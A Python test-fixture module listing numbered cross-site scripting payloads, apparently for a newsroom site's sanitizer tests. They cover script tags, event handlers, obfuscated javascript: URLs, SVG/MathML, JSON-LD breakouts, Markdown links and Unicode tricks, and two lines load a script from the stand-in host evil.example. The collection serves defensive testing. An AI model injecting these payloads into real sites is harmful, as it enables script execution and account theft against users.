"""Hostile input for the newsroom: what an attacker (or a careless paste) could put into a story,
a source or a review. Each payload calls alert(N) with its own N, so a failure names it.

Written for this project's surfaces: Markdown bodies with Pandoc-style citations ([@key, locator])
and figures (image:ID), the JSON-LD block on the story page, admin forms, and the JSON API.
"""

# Plain HTML: script elements in their many spellings.
SCRIPT_TAGS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(2)</scr</script>ipt>",
    "<script/x>alert(3)</script>",
    '"><script>alert(4)</script>',
    "'><script>alert(5)</script><'",
]

# Event handlers on harmless-looking elements.
EVENT_HANDLERS = [
    "<img src=x onerror=alert(6)>",
    '<img src="x" onerror="alert(7)"/>',
    "<body onload=alert(8)>",
    "<div onmouseover='alert(9)'>hover the claim</div>",
    "<details open ontoggle=alert(10)>",
    "<input autofocus onfocus=alert(11)>",
    "<img/src/onerror=alert(12)>",
    "<a href=# onclick=alert(13)>Source 1</a>",
]

# Script URLs, plain and obfuscated with entities, whitespace and control characters.
SCRIPT_URLS = [
    '<a href="javascript:alert(14)">click</a>',
    '<a href="JaVaScRiPt:alert(15)">x</a>',
    '<a href="&#106;avascript:alert(16)">x</a>',
    '<a href="java&#x09;script:alert(17)">x</a>',
    '<a href=" &#x1; javascript:alert(18)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxOSk8L3NjcmlwdD4=">x</a>',
    '<a href="vbscript:msgbox(20)">x</a>',
    '<iframe src="javascript:alert(21)"></iframe>',
    '<form action="javascript:alert(22)"><button>go</button></form>',
    '<button formaction="javascript:alert(23)">go</button>',
    '<object data="data:text/html,<script>alert(24)</script>"></object>',
]

# SVG and MathML: foreign content with its own parsing rules.
FOREIGN = [
    "<svg onload=alert(25)>",
    "<svg><script>alert(26)</script></svg>",
    '<svg><a xlink:href="javascript:alert(27)"><text y="20">x</text></a></svg>',
    "<svg><animate onbegin=alert(28) attributeName=x dur=1s>",
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(29)>',
    '<math href="javascript:alert(30)">x</math>',
]

# Broken markup and parser differentials.
BROKEN = [
    "<img src=x onerror=alert(31)//",
    "<<script>alert(32);//<</script>",
    '<noscript><p title="</noscript><img src=x onerror=alert(33)>">',
    "<!--<img src=--><img src=x onerror=alert(34)//-->",
    '<style><img src="</style><img src=x onerror=alert(35)//">',
    "<textarea></textarea><script>alert(36)</script>",
    "<title></title><script>alert(37)</script>",
]

# The JSON-LD block on the story page: end the script element or open a comment in it.
JSON_LD = [
    "</script><script>alert(38)</script>",
    "<!--<script>",
    '"}</script><img src=x onerror=alert(39)>',
    "\u2028\u2029</SCRIPT ><script>alert(40)</script>",
]

# Markdown links, images, autolinks and references; citations with hostile locators.
MARKDOWN = [
    "[the report](javascript:alert(41))",
    "[the report](JAVASCRIPT:alert(42) \"title\")",
    '![chart](image:1" onerror="alert(43))',
    "![chart](javascript:alert(44))",
    "<javascript:alert(45)>",
    "[ref]: javascript:alert(46)\n\nSee [ref].",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCg0Nyk8L3NjcmlwdD4=)",
    "[x](vbscript:msgbox(48))",
    "[x](&#106;avascript:alert(49))",
    "[x](java\tscript:alert(50))",
    "[x]( javascript:alert(51) )",
    "Shares rose 6% [@key-a, <img src=x onerror=alert(52)>].",
    'Shares rose 6% [@key-a, p. 2" onmouseover="alert(53)].',
    "[<img src=x onerror=alert(54)>](https://example.org/)",
    "![<svg onload=alert(55)>](image:1)",
]

# Unicode tricks: direction overrides, zero-width characters, full-width angle brackets.
UNICODE = [
    "\u202egnp.exe<script>alert(56)</script>",
    "<scr\u200bipt>alert(57)</scr\u200bipt>",
    "\uff1cscript\uff1ealert(58)\uff1c/script\uff1e",
    "<a href=\"java\u200bscript:alert(59)\">x</a>",
    "\u0000<script>alert(60)</script>",
]

# Attribute breakouts: text that lands inside a quoted attribute (meta description, title=).
ATTRIBUTE = [
    '" autofocus onfocus="alert(61)',
    "' onmouseover='alert(62)",
    '" style="background:url(javascript:alert(63))',
    "`onmouseover=alert(64)",
]

ALL = [
    *SCRIPT_TAGS, *EVENT_HANDLERS, *SCRIPT_URLS, *FOREIGN, *BROKEN, *JSON_LD, *MARKDOWN,
    *UNICODE, *ATTRIBUTE,
]

# Fields stored verbatim must not contain NUL (the workflow refuses it in bodies, and
# PostgreSQL refuses it in any text column): used where a payload must be accepted.
STORABLE = [p for p in ALL if "\x00" not in p]

URL_PAYLOADS = [
    "javascript:alert(70)",
    " javascript:alert(71)",
    "JAVASCRIPT:alert(72)",
    "java\nscript:alert(73)",
    "data:text/html,<script>alert(74)</script>",
    "vbscript:msgbox(75)",
    "//evil.example/x.js",
    "ftp://files.example.org/report.pdf",
    "https://example.org/\"><script>alert(76)</script>",
    "https://example.org/?q=<img src=x onerror=alert(77)>",
]


def chunks(payloads: list[str], limit: int, sep: str = " ") -> list[str]:
    """Join payloads greedily into strings of at most `limit` characters."""
    out, current = [], ""
    for payload in payloads:
        candidate = f"{current}{sep}{payload}" if current else payload
        if len(candidate) > limit and current:
            out.append(current)
            current = payload
        else:
            current = candidate
    if current:
        out.append(current)
    return out
